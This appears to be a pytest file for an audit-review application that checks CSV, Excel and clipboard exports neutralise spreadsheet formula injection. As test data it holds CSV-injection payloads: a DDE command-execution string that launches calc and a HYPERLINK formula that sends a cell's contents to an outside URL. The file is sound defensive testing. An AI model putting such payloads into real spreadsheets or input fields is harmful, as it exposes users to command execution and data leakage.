"""Exports never carry formulas: a hostile unit name, reason, note or title reaches CSV,
Excel and the clipboard as the text the auditor wrote, never as something Excel runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from pytestqt.qtbot import QtBot

from reviewer import review
from reviewer.cli import main
from reviewer.model import Code
from reviewer.project import Project
from reviewer.report.builder import build_report, choose_units
from reviewer.report.model import ReportOptions
from reviewer.report.output import options_for, write_report
from reviewer.spreadsheet import FORMULA_STARTS, neutralise
from reviewer.templates import builtin_template
from reviewer.ui.clipboard import CopiedTable, html_table, tab_separated
from reviewer.ui.operations import ProjectOps
from reviewer.ui.summary_pane import SummaryPane
from tests.conftest import AUTHOR
from tests.keys import bring_up, click, press

LINK = '=HYPERLINK("http://example.invalid/?"&B2,"Klicka")'
COMMAND = "=cmd|' /C calc'!A0"
NOTE = "@SUM(A1:A9)"
TITLE = "=2+3"
OWASP = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Project]:
    """A project whose every free text starts like a formula."""
    with review.create_project(tmp_path / "h.aktg", title=TITLE, template=builtin_template(),
                               units=[(LINK, 3), ("-Minus kommun", 2), ("#N/A", 1)]
                               ) as project:
        link, minus, _error = project.units()
        one, two, _three = project.case_files(link.id)
        for key in ("1", "2", "3", "4", "5", "6", "7", "8"):
            review.set_answer(project, one.id, key, Code.EB, author=AUTHOR, reason=COMMAND,
                              note=NOTE)
            review.set_answer(project, two.id, key, Code.ET, author=AUTHOR, reason="+1+1",
                              note="-2")
            review.set_answer(project, project.case_files(minus.id)[0].id, key, Code.JA,
                              author=AUTHOR, note="=1")
        review.rename_case_file(project, _three.id, "@3")
        yield project


def formula_like(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(OWASP)]


def test_report_csv_has_no_cell_starting_like_a_formula(hostile: Project,
                                                        tmp_path: Path) -> None:
    report = build_report(hostile, choose_units(hostile, []), ReportOptions(title=TITLE))
    out = tmp_path / "lång.csv"
    write_report(report, "csv", out, include_notes=True)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert formula_like([c for row in rows for c in row]) == []
    assert {"'" + LINK, "'-Minus kommun", "'" + COMMAND, "'" + NOTE, "'+1+1", "'-2",
            "'=1", "'@3"} <= {c for row in rows for c in row}


def test_summary_csv_has_no_cell_starting_like_a_formula(
        hostile: Project, capsys: pytest.CaptureFixture[str]) -> None:
    path = hostile.path
    hostile.close()
    assert main(["summary", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert formula_like([c for row in rows for c in row]) == []
    assert rows[1][0] == "'" + LINK and rows[1][2:7] == ["0", "0", "1", "1", "1"]


def test_excel_report_has_no_formula_and_keeps_every_text_as_written(
        hostile: Project, tmp_path: Path) -> None:
    options = options_for("xlsx", ReportOptions(title=TITLE, findings=True))
    out = tmp_path / "bilaga.xlsx"
    write_report(build_report(hostile, choose_units(hostile, []), options), "xlsx", out)
    workbook = openpyxl.load_workbook(out)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.data_type == "e"] == []  # "#N/A" is a name
    texts = {c.value for c in cells}
    assert LINK in texts and "@3" in texts  # the joint summary's header, a file label
    assert f"{TITLE} – {LINK}" in texts  # an appendix's title line
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(OWASP):
            assert cell.quotePrefix, cell.coordinate  # editing in Excel keeps it text


def test_a_sheet_name_never_begins_or_ends_with_an_apostrophe(tmp_path: Path) -> None:
    with review.create_project(tmp_path / "a.aktg", title="T", template=builtin_template(),
                               units=[("'Citat'", 1)]) as project:
        report = build_report(project, project.units(), options_for("xlsx", ReportOptions()))
        write_report(report, "xlsx", tmp_path / "a.xlsx")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames == ["Sammanställning",
                                                                      "Citat"]


def test_copied_summary_table_is_text_for_excel(qtbot: QtBot, hostile: Project) -> None:
    pane = SummaryPane(ProjectOps(hostile, AUTHOR))
    qtbot.addWidget(pane)
    pane.set_unit(hostile.units()[0].id)
    pane.refresh()
    bring_up(qtbot, pane)
    click(pane.table.viewport())  # the auditor clicks into the table, then copies it
    press(Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    mime = QGuiApplication.clipboard().mimeData()
    lines = mime.text().split("\n")
    assert lines[0] == "'" + LINK
    assert formula_like([c for line in lines for c in line.split("\t")]) == []
    # The Summa is marked as text for Excel (0/3 is not 3 January); a count stays a number.
    assert "<td style=\"mso-number-format:'\\@'\">0/3</td>" in mime.html()
    assert "<td>1</td>" in mime.html()
    assert "=HYPERLINK" not in mime.html().replace("&#x27;=HYPERLINK", "")


def test_a_copied_table_cannot_be_split_by_a_tab_or_a_line_break() -> None:
    rows = [["1. Text\tmed\ntabb", "9/10"]]
    table = CopiedTable("Enhet", ["Fråga", "Summa"], rows)
    assert tab_separated(table) == "Enhet\nFråga\tSumma\n1. Text med tabb\t9/10"
    assert html_table(CopiedTable("=Enhet", ["Fråga", "Summa"], rows)).startswith(
        "<p><b>&#x27;=Enhet</b></p>")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12))
def test_a_neutralised_text_never_starts_like_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert cell[:1] not in FORMULA_STARTS
    assert cell in (text, "'" + text)  # nothing else changes


@pytest.mark.parametrize("invisible", ["\ufeff", "\u200b", "\u2060", "\u00a0"])
def test_a_formula_behind_an_invisible_character_is_neutralised(invisible: str) -> None:
    assert neutralise(f"{invisible}=cmd|' /C calc'!A0").startswith("'")
